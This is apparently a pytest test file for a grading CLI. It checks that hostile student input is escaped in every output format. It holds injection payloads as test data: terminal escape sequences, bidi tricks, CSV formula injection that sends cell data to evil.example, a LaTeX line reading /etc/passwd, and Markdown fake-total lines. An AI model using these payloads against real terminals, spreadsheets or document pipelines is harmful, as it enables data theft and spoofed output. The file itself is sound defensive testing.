"""Outputs are inert (issue 11): whatever a student writes, in a sheet, its name or a key,
every output of `nncalc verify` (and of `solve` and `template`, for a problem's name) shows
it and never obeys it.

* No raw control character (ESC sequences: OSC 52 clipboard writes, cursor moves, window
  titles; ``\\r``, NUL), bidi control (U+202E) or line separator (U+2028, U+2029, U+0085)
  reaches the terminal, plain text, CSV, Markdown or HTML: each is shown escaped (``\\x1b``).
* No CSV cell starts with ``=``, ``+``, ``-``, ``@``, tab or CR unless it is a number
  (OWASP): ``'=HYPERLINK(...)``, and ``-0.5`` stays a number.
* A name cannot make a Markdown heading or a fake "Total" line.
* JSON Lines keep one record a line for any line-splitting reader, and the data exact.

Every test runs the CLI as a TA does (``nncalc verify FOLDER --problem problems/a4.yaml``),
on sheets written into ``tmp_path``; the last is a Hypothesis property over all of Unicode.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import tempfile
import unicodedata
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from typer.testing import CliRunner

from nncalc.cli import app

ROOT = Path(__file__).resolve().parent.parent
A4 = ROOT / "problems" / "a4.yaml"

#: The formats of `nncalc verify` that take a folder (gradescope grades one sheet).
FOLDER_FORMATS = ("rich", "plain", "json", "csv", "markdown", "latex", "html")
#: The bidi controls: they reorder what a reader sees (U+202E shows "exe.txt" as "txt.exe").
BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
#: The first characters that make a spreadsheet run a cell (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")

OSC52 = "\x1b]52;c;aGFja2Vk\x07"  # writes "hacked" into the clipboard
CURSOR = "\x1b[2J\x1b[H\x1b[1A\x1b[2K"  # clears the screen, moves up, erases a line
TITLE = "\x1b]0;pwned\x07"  # sets the window title
#: Hostile file names (stems), each a student's id as `nncalc verify` reads it.
HOSTILE_STEMS = (
    f"osc{OSC52}",
    f"cursor{CURSOR}",
    f"title{TITLE}",
    "over\rwrite",
    "bidi\u202egpj.exe",
    "sep\u2028a\u2029b\x85c",
)


def raw_unsafe(text: str, layout: str = "\n") -> list[str]:
    """The control, bidi and separator characters in ``text``, other than its own layout."""
    return [
        c
        for c in text
        if c not in layout and (unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") or c in BIDI)
    ]


def unneutralised(text: str) -> list[str]:
    """The CSV cells that a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]


def yaml_quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar that reads back exactly (any code point)."""
    out = []
    for c in text:
        if " " <= c <= "~" and c not in '"\\':
            out.append(c)
        elif ord(c) <= 0xFF:
            out.append(f"\\x{ord(c):02x}")
        elif ord(c) <= 0xFFFF:
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(f"\\U{ord(c):08x}")
    return '"' + "".join(out) + '"'


def sheet(student: str | None = None, answers: dict[str, str | float] | None = None) -> str:
    lines = [] if student is None else [f"student: {yaml_quoted(student)}"]
    lines.append("answers:")
    for key, value in (answers or {"Z1": 1.0}).items():
        shown = yaml_quoted(value) if isinstance(value, str) else repr(value)
        lines.append(f"  {yaml_quoted(key)}: {shown}")
    return "\n".join(lines) + "\n"


def verify(folder: Path, fmt: str, *paths: str) -> str:
    """`nncalc verify PATHS --problem problems/a4.yaml -f FMT` run in ``folder``: its stdout.

    Never a traceback: exit 0, 1 (not full marks) or 2 (a sheet could not be graded).
    """
    cwd = Path.cwd()
    os.chdir(folder)
    try:
        result = CliRunner().invoke(
            app, ["verify", *(paths or ["."]), "--problem", str(A4), "-f", fmt]
        )
    finally:
        os.chdir(cwd)
    assert result.exit_code in (0, 1, 2), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    return result.stdout


@pytest.fixture
def class_folder(tmp_path: Path) -> Path:
    """A class of hostile sheets: names, a student field, keys and answers as text."""
    for stem in HOSTILE_STEMS:
        (tmp_path / f"{stem}.yaml").write_text(sheet(), encoding="utf-8")
    (tmp_path / "fields.yaml").write_text(
        sheet(
            f"nul\x00{OSC52}\u202e",
            {
                f"Q{TITLE}": 1.0,
                "R\x00\u202e\u2028": 2.0,
                "Z1": f"{CURSOR}\r\u202e",
                "A1": "=HYPERLINK(1)",
            },
        ),
        encoding="utf-8",
    )
    (tmp_path / f"broken{OSC52}.yaml").write_text("answers: [\n", encoding="utf-8")
    return tmp_path


# ---------------------------------------------------------------------------
# Control characters, bidi controls and separators


@pytest.mark.parametrize("fmt", FOLDER_FORMATS)
def test_no_control_character_reaches_any_format(class_folder: Path, fmt: str) -> None:
    out = verify(class_folder, fmt)
    assert raw_unsafe(out) == []
    if fmt == "markdown":  # Markdown backslashes its structure characters, the \\ included
        out = re.sub(r"\\(.)", r"\1", out)
    if fmt == "latex":  # every text ASCII, LaTeX's special characters spelled out
        assert out.isascii()
        out = unlatex(out)
    if fmt != "json":
        for shown in (OSC52, CURSOR, TITLE, "over\rwrite", "bidi\u202egpj", "nul\x00"):
            assert repr(shown)[1:-1] in out, shown


def test_gradescope_output_is_inert(tmp_path: Path) -> None:
    name = f"s{OSC52}\u2028"
    (tmp_path / f"{name}.yaml").write_text(
        sheet(f"x{TITLE}\u2029", {f"Q{CURSOR}\u202e": 1.0, "Z1": "\x85\r"}), encoding="utf-8"
    )
    out = verify(tmp_path, "gradescope", f"{name}.yaml")
    assert raw_unsafe(out) == []
    assert out.splitlines() == out.split("\n")[:-1]
    doc = json.loads(out)
    names = [test["name"] for test in doc["tests"]]
    assert "Q\\x1b[2J\\x1b[H\\x1b[1A\\x1b[2K\\u202e" in names


def test_undecodable_file_name_is_shown_escaped(tmp_path: Path) -> None:
    """A name that is not UTF-8 (its bytes as lone surrogates) cannot even be encoded raw."""
    (tmp_path / os.fsdecode(b"\xff\x1b[2Jx.yaml")).write_text(sheet(), encoding="utf-8")
    for fmt in FOLDER_FORMATS:
        out = verify(tmp_path, fmt)
        assert raw_unsafe(out) == []
        if fmt == "json":
            assert json.loads(out)["student"] == "\udcff\x1b[2Jx"
        else:
            assert "udcff" in out


def unlatex(text: str) -> str:
    """LaTeX's special characters as escape.latex spells them, back to themselves."""
    from nncalc.escape import LATEX_SPECIALS

    for char, spelled in LATEX_SPECIALS.items():
        text = text.replace(spelled, char)
    return text


#: Names in scripts and signs pdflatex knows nothing of, and TeX's own tricks.
TEX_HOSTILE = (
    "𠮷田", "José Ñúñez", "Łódź ĳ", "Ðǅ", "δ ŷ ∂L ⊙ ᵀ", "😀\u200d😀", "\\input{/etc/passwd}",
    "^^5cinput", "$x$ & % # ~", "\\end{document}", "}{", "[3cm]x", "\\catcode`\\@=0",
)  # fmt: skip


def test_latex_report_compiles_whatever_the_names(tmp_path: Path) -> None:
    """escape.latex writes every text as ASCII: no name stops pdflatex, none runs a command."""
    for text in TEX_HOSTILE:
        (tmp_path / f"{text.replace('/', '_')}.yaml").write_text(
            sheet(text, {"Z1": text, text: 1.0}), encoding="utf-8"
        )
    (tmp_path / "broken.yaml").write_text("answers: [\n", encoding="utf-8")
    out = verify(tmp_path, "latex")
    assert out.isascii() and "\\input{" not in out and "^^" not in out
    assert "{[}U+20BB7{]}" in out and "Jos\\'{e} \\~{N}\\'{u}\\~{n}ez" in out
    if shutil.which("pdflatex") is None:
        pytest.skip("pdflatex is not installed")
    (tmp_path / "report.tex").write_text(out, encoding="ascii")
    pdflatex = ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape"]
    run = subprocess.run(
        [*pdflatex, "report.tex"], cwd=tmp_path, capture_output=True, text=True, timeout=120
    )
    assert run.returncode == 0, run.stdout[-3000:]
    assert (tmp_path / "report.pdf").stat().st_size > 0


# ---------------------------------------------------------------------------
# CSV formula injection


def test_csv_formula_cells_are_neutralised(tmp_path: Path) -> None:
    stems = ['=HYPERLINK("evil.example","grade")', "+SUM(1)", "-cmd", "@SUM(A1)"]
    stems += ["\tTAB", "\rCR", "-0.5", "+1.5e3"]
    for stem in stems:
        (tmp_path / f"{stem}.yaml").write_text(sheet(), encoding="utf-8")
    (tmp_path / "=1+2 broken.yaml").write_text("answers: [\n", encoding="utf-8")
    (tmp_path / "field.yaml").write_text(
        sheet('=HYPERLINK("http://evil.example/?"&A1,"x")'), encoding="utf-8"
    )
    out = verify(tmp_path, "csv")
    assert unneutralised(out) == []
    assert raw_unsafe(out) == []
    table = list(csv.reader(io.StringIO(out)))
    error = table[0].index("error")
    rows = {row[1]: row for row in table}
    assert rows['\'=HYPERLINK("evil.example","grade").yaml'][0] == (
        '\'=HYPERLINK("evil.example","grade")'
    )
    assert rows["'-cmd.yaml"][0] == "'-cmd"
    assert rows["'@SUM(A1).yaml"][0] == "'@SUM(A1)"
    assert rows["'\\tTAB.yaml"][0] == "'\\tTAB"
    assert rows["'\\rCR.yaml"][0] == "'\\rCR"
    assert rows["'-0.5.yaml"][0] == "-0.5"  # a number stays a number (its file name is text)
    assert rows["'+1.5e3.yaml"][0] == "+1.5e3"
    assert rows["'=1+2 broken.yaml"][error].startswith("'=1+2 broken.yaml")


# ---------------------------------------------------------------------------
# Markdown structure


def test_markdown_name_cannot_make_a_heading_or_a_total(tmp_path: Path) -> None:
    # CommonMark ends a line at \r too: without escaping, each makes its own block.
    for stem in ("a\rTotal 10 of 10\r===", "b\r- Total 10 of 10", "c\r\r    code"):
        (tmp_path / f"{stem}.yaml").write_text(sheet(), encoding="utf-8")
    (tmp_path / "keys.yaml").write_text(
        sheet("d\r# Total: 10 / 10", {"Z9\r---\r**Total: 10 / 10**": 1.0}), encoding="utf-8"
    )
    out = verify(tmp_path, "markdown")
    assert "\r" not in out
    tokens = markdown_tokens(out)
    headings = headings_of(tokens)
    assert all(h.startswith("Feedback: ") or h == "Class summary" for h in headings), headings
    assert len([h for h in headings if h.startswith("Feedback: ")]) == 4
    kinds = {token.type for token in tokens}
    assert "code_block" not in kinds and "hr" not in kinds
    totals = [t.content for t in tokens if t.type == "inline" and "Total" in t.content]
    assert sum(t.startswith("**Total: ") for t in totals) == 4  # the four sheets' own


def markdown_tokens(text: str) -> list[Token]:
    """Markdown as a CommonMark reader (with tables) reads it: \\r, \\n and \\r\\n end lines."""
    return MarkdownIt("commonmark").enable("table").parse(text)


def headings_of(tokens: list[Token]) -> list[str]:
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


# ---------------------------------------------------------------------------
# JSON Lines


def test_json_lines_keep_one_record_a_line(tmp_path: Path) -> None:
    stems = ["line\u2028sep", "para\u2029sep", "next\x85line"]
    for stem in stems:
        (tmp_path / f"{stem}.yaml").write_text(
            sheet(None, {f"K{stem}": 1.0, "Z1": f"{stem}\u202e"}), encoding="utf-8"
        )
    out = verify(tmp_path, "json")
    for separator in ("\u2028", "\u2029", "\x85"):
        assert separator not in out
    records = [json.loads(line) for line in out.splitlines()]
    assert sorted(r["student"] for r in records) == sorted(stems)  # the data is exact
    labels = {item["label"] for r in records for item in r["items"]}
    assert {f"K{stem}" for stem in stems} <= labels


# ---------------------------------------------------------------------------
# A problem's name: solve, the notebook's HTML and template


HOSTILE_NAME = f"A4{TITLE}\r\n===\n# Total: 10 / 10\u202e\u2028{OSC52}"


@pytest.fixture
def hostile_problem(tmp_path: Path) -> Path:
    text = A4.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^name: .*$", lambda _: f"name: {yaml_quoted(HOSTILE_NAME)}", text)
    path = tmp_path / "problem.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["rich", "plain", "markdown", "latex", "json"])
def test_solve_shows_a_problem_name_escaped(hostile_problem: Path, fmt: str) -> None:
    result = CliRunner().invoke(app, ["solve", str(hostile_problem), "-f", fmt])
    assert result.exit_code == 0, result.output
    assert raw_unsafe(result.stdout) == []
    if fmt == "markdown":
        headings = headings_of(markdown_tokens(result.stdout))
        assert headings[0].startswith("A4")  # the name is one heading, all of it
        assert not any("Total" in h for h in headings[1:])
    if fmt == "json":
        assert json.loads(result.stdout)["problem"]["name"] == HOSTILE_NAME


def test_notebook_html_shows_a_problem_name_escaped(hostile_problem: Path) -> None:
    import nncalc

    page = nncalc.solve(nncalc.load_problem(hostile_problem))._repr_html_()
    assert raw_unsafe(page) == []
    assert "A4\\x1b]0;pwned\\x07\\r\\n===" in page


def test_template_comment_cannot_break_the_sheet(hostile_problem: Path) -> None:
    result = CliRunner().invoke(app, ["template", str(hostile_problem)])
    assert result.exit_code == 0, result.output
    assert raw_unsafe(result.stdout) == []
    doc = yaml.safe_load(result.stdout)
    assert set(doc) == {"problem", "student", "answers", "equations"}
    assert set(doc["equations"].values()) == {None}  # empty slots, a4's 10 equations
    assert len(doc["equations"]) == 10
    # a YAML comment's rule (escape.yaml_comment): \uXXXX, which PyYAML never refuses
    assert result.stdout.startswith(
        "# Answer sheet for: A4\\u001b]0;pwned\\u0007\\u000d\\u000a===\\u000a"
    )


# ---------------------------------------------------------------------------
# The escaping rules themselves


def test_the_rules_of_each_format() -> None:
    from nncalc import escape
    from nncalc.errors import NncalcError

    hostile = f"a{OSC52}\r\x00\u202e\u2028\x85\x7f\ud800b"
    shown = "a\\x1b]52;c;aGFja2Vk\\x07\\r\\x00\\u202e\\u2028\\x85\\x7f\\ud800b"
    assert escape.visible(hostile) == shown
    family = "\U0001f469\u200d\U0001f467"  # emoji joined by ZWJ
    persian = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # a word with a ZWNJ
    ordinary = f"Ünïcödé 𠮷田 {family} {persian} a\u00a0b"
    assert escape.visible(ordinary) == ordinary  # joiners and spaces of real names stay
    assert str(NncalcError(hostile, source="x.yaml")) == f"x.yaml: {shown}"
    assert escape.markdown("a\r# b|c") == "a\\\\r\\# b\\|c"
    assert escape.html('<b a="1">\x1b') == "&lt;b a=&quot;1&quot;&gt;\\x1b"
    assert escape.latex("50%_\x1b") == r"50\%\_\textbackslash{}x1b"
    assert escape.latex("Ñúñez ï Łódź") == r"\~{N}\'{u}\~{n}ez \"{\i} \L{}\'{o}d\'{z}"
    assert escape.latex("δ2 = ŷ − y") == r"\ensuremath{\delta}2 = \^{y} \ensuremath{-} y"
    assert escape.latex("Σ Α 𠮷 [1]") == r"\ensuremath{\Sigma} A {[}U+20BB7{]} {[}1{]}"
    assert escape.csv_cell("-0.5") == "-0.5"
    assert escape.csv_cell("-1+2") == "'-1+2"
    assert escape.csv_cell("\t=1") == "'\\t=1"
    assert escape.csv_cell("a=1") == "a=1"
    assert escape.json_dumps({"k": "\u2028\u2029\x85\n"}) == '{"k": "\\u2028\\u2029\\u0085\\n"}'
    assert json.loads(escape.json_dumps(hostile)) == hostile
    assert escape.json_dumps([1, "a"], indent=1) == '[\n 1,\n "a"\n]'


# ---------------------------------------------------------------------------
# The property: any text, anywhere a student can put it


#: Any code point, lone surrogates included, with the hostile ones drawn often.
ANY_CHAR = st.one_of(
    st.characters(codec=None, exclude_categories=()),
    st.integers(0xD800, 0xDFFF).map(chr),  # lone surrogates; 0xDC80-0xDCFF: a name's bytes
    st.sampled_from(
        [
            *("\x1b", "\r", "\n", "\x00", "\t", "\x7f", "\x85", "\x9b", "\u2028", "\u2029"),
            *sorted(BIDI),
            *("=", "+", "-", "@", "#", "|", "*", "<", "&", "\\", '"', "'"),
        ]
    ),
)
ANY_TEXT = st.text(ANY_CHAR, min_size=1, max_size=24)


def file_name_ok(stem: str) -> bool:
    """A stem that the file system takes as one visible file name (not hidden, not a dir)."""
    try:
        raw = os.fsencode(stem)
    except UnicodeError:
        return False
    return b"/" not in raw and b"\x00" not in raw and not raw.startswith(b".") and len(raw) < 200


@settings(max_examples=50, suppress_health_check=[HealthCheck.too_slow])
@given(stem=ANY_TEXT, student=ANY_TEXT, key=ANY_TEXT, answer=ANY_TEXT)
def test_any_text_is_inert_in_every_format(stem: str, student: str, key: str, answer: str) -> None:
    assume(file_name_ok(stem))
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        name = f"{stem}.yaml"
        (root / name).write_text(sheet(None, {key: 1.0, "Z1": answer}), encoding="utf-8")
        (root / "with_field.yaml").write_text(sheet(student, {"A1": answer}), encoding="utf-8")
        for fmt in FOLDER_FORMATS:
            out = verify(root, fmt)
            assert raw_unsafe(out) == [], (fmt, out)
            if fmt == "csv":
                assert unneutralised(out) == [], out
            if fmt == "json":
                assert len([json.loads(line) for line in out.splitlines()]) == 2
            if fmt == "latex":
                assert out.isascii(), out
        single = verify(root, "gradescope", "with_field.yaml")
        assert raw_unsafe(single) == []
        json.loads(single)
